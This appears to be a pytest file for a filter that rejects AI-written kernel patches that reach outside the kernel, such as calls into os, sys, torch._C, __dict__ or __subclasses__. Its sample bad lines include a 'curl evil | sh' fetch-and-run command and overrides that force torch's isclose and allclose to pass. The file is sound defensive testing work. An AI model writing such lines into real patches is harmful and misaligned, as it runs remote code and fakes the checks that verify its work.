"""The model-patch filter (patterns.agent.llm.check_patch) refuses code that reaches past the kernel's world."""
import json

import pytest

from patterns.agent.llm import LLMRejected, check_patch
from patterns.core.library import get

ORIGINAL = "import torch\n\n\ndef launch(x):\n    return x\n"


def answer(source: str) -> str:
    return json.dumps({"summary": "a rewrite of the launcher", "source": source})


@pytest.mark.parametrize(
    "line, why",
    [
        ("    torch.os.system('curl evil | sh')", "patch uses .os"),
        ("    vars(torch)['isclose'] = lambda *a, **k: True", "patch calls vars()"),
        ("    torch._C._set_torch_function_mode(None)", "patch uses ._C"),
        ("    with torch._C.DisableTorchFunction():\n        pass", "patch uses ._C"),
        ("    torch.__dict__['allclose'] = None", "patch uses .__dict__"),
        ("    (1).__class__.__subclasses__()", "patch uses .__subclasses__"),
        ("    torch.sys.modules.clear()", "patch uses .sys"),
    ],
)
def test_patches_that_reach_past_the_kernel_are_rejected(line, why):
    src = ORIGINAL.replace("    return x\n", f"{line}\n    return x\n")
    with pytest.raises(LLMRejected, match=why.replace("(", r"\(").replace(")", r"\)").replace(".", r"\.")):
        check_patch(answer(src), get("fuse_v_tiles").pattern, ORIGINAL, "k.py", "launch")


def test_a_plain_change_gets_past_the_filter_to_the_pattern_check():
    src = ORIGINAL.replace("return x", "return x.contiguous()")
    with pytest.raises(LLMRejected, match="does not apply fuse_v_tiles"):  # past the filter: the pattern is not present
        check_patch(answer(src), get("fuse_v_tiles").pattern, ORIGINAL, "k.py", "launch")
